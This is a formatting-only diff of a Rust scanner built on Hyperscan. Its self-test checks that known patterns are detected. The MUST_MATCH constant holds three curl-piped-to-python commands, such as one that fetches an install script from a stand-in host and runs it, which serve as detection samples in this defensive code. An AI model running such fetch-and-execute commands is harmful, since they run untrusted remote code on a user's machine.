@@ -26,10 +26,7 @@ impl fmt::Display for EngineError {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         match self {
             EngineError::MissesMatches { version } => {
-                write!(
-                    f,
-                    "the pattern library {version} misses known matches; build with Intel Hyperscan 5.4 (libhyperscan-dev)"
-                )
+                write!(f, "the pattern library {version} misses known matches; build with Intel Hyperscan 5.4 (libhyperscan-dev)")
             }
             EngineError::Library(error) => write!(f, "the pattern library failed: {error}"),
         }
@@ -69,10 +66,7 @@ impl Literals {
             }
         }
         let database = Patterns(patterns).build()?;
-        Ok(Literals {
-            database,
-            detectors,
-        })
+        Ok(Literals { database, detectors })
     }
 
     pub(crate) fn scratch(&self) -> Result<Scratch, EngineError> {
@@ -92,24 +86,12 @@ impl Literals {
 
 /// The literal as a pattern: everything but letters and digits by its code.
 fn escape(literal: &str) -> String {
-    literal
-        .bytes()
-        .map(|b| {
-            if b.is_ascii_alphanumeric() {
-                char::from(b).to_string()
-            } else {
-                format!("\\x{b:02x}")
-            }
-        })
-        .collect()
+    literal.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("\\x{b:02x}") }).collect()
 }
 
 /// Texts in which some builds of a related library find nothing although each holds a match (reported upstream, and reproduced).
-const MUST_MATCH: [&str; 3] = [
-    "curl http://xxx:8000/ 2>&1 | python",
-    "curl http://a.example/install.sh | python3 -",
-    "sh -c 'curl -s x |python'",
-];
+const MUST_MATCH: [&str; 3] =
+    ["curl http://xxx:8000/ 2>&1 | python", "curl http://a.example/install.sh | python3 -", "sh -c 'curl -s x |python'"];
 
 /// Scans texts with known matches.
 ///
@@ -137,16 +119,10 @@ pub(crate) fn self_test(literals: &Literals) -> Result<(), EngineError> {
         for offset in 0..64 {
             let padded = format!("{}{text}{}", "~".repeat(offset), "~".repeat(64 - offset));
             let mut found = false;
-            literals.scan(padded.as_bytes(), &scratch, |_, end| {
-                found |= end == offset + text.len()
-            });
+            literals.scan(padded.as_bytes(), &scratch, |_, end| found |= end == offset + text.len());
             is_fit &= found;
         }
     }
     let version = || hyperscan::version_str().to_string_lossy().into_owned();
-    if is_fit {
-        Ok(())
-    } else {
-        Err(EngineError::MissesMatches { version: version() })
-    }
+    if is_fit { Ok(()) } else { Err(EngineError::MissesMatches { version: version() }) }
 }
